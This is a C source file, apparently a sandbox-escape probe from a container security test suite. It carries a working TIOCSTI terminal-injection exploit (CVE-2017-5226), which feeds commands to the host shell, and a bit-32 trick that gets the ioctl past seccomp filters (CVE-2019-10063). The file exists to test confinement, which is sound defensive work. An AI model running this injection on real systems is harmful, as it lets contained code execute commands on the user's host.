/*
 * sec-tty watch CMD...; sec-tty type TEXT [high]: TIOCSTI puts characters into the input of a
 * terminal, as if they had been typed (tty_ioctl(4)); the shell that owns the terminal runs them
 * after the container has ended. CVE-2017-5226. With `high` a bit is set above the 32 that the
 * kernel looks at: a filter that compares all 64 lets it pass, CVE-2019-10063.
 *
 * `watch` runs CMD on a new terminal and prints what has been typed there when CMD is done.
 */
#define _GNU_SOURCE
#include "attack.h"

#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <termios.h>

static int open_terminal(void)
{
	struct termios raw;
	int master = posix_openpt(O_RDWR | O_NOCTTY | O_CLOEXEC), terminal;

	if (master < 0 || grantpt(master) < 0 || unlockpt(master) < 0)
		return -1;
	terminal = open(ptsname(master), O_RDWR | O_NOCTTY | O_CLOEXEC);
	if (terminal < 0 || tcgetattr(terminal, &raw) < 0)
		return -1;
	cfmakeraw(&raw); /* what is typed can be read at once, and is not echoed */
	tcsetattr(terminal, TCSANOW, &raw);
	return terminal; /* master stays open: without it there is no terminal */
}

static int watch(char **command)
{
	int terminal = open_terminal();
	char typed[128] = "";
	pid_t pid;

	if (terminal < 0)
		return blocked("open a terminal");
	pid = fork();
	if (pid == 0) {
		setsid();
		if (ioctl(terminal, TIOCSCTTY, 0) == 0 && dup2(terminal, STDIN_FILENO) == 0)
			execvp(command[0], command);
		_exit(blocked("start"));
	}
	waitpid(pid, NULL, 0);
	fcntl(terminal, F_SETFL, O_NONBLOCK);
	if (read(terminal, typed, sizeof(typed) - 1) <= 0)
		typed[0] = '\0';
	printf("TYPED %s\n", typed);
	return 0;
}

static int type(const char *text, unsigned long request)
{
	for (; *text; text++)
		if (syscall(SYS_ioctl, STDIN_FILENO, request, text) < 0)
			return blocked("ioctl TIOCSTI");
	puts("ESCAPED typed");
	return 0;
}

int main(int argc, char **argv)
{
	unsigned long request = TIOCSTI;

	if (argc > 2 && strcmp(argv[1], "watch") == 0)
		return watch(argv + 2);
	started();
	if (argc == 4) /* in two steps, because a long may have 32 bits only */
		request |= 1UL << 16 << 16;
	return argc > 2 ? type(argv[2], request) : 2;
}
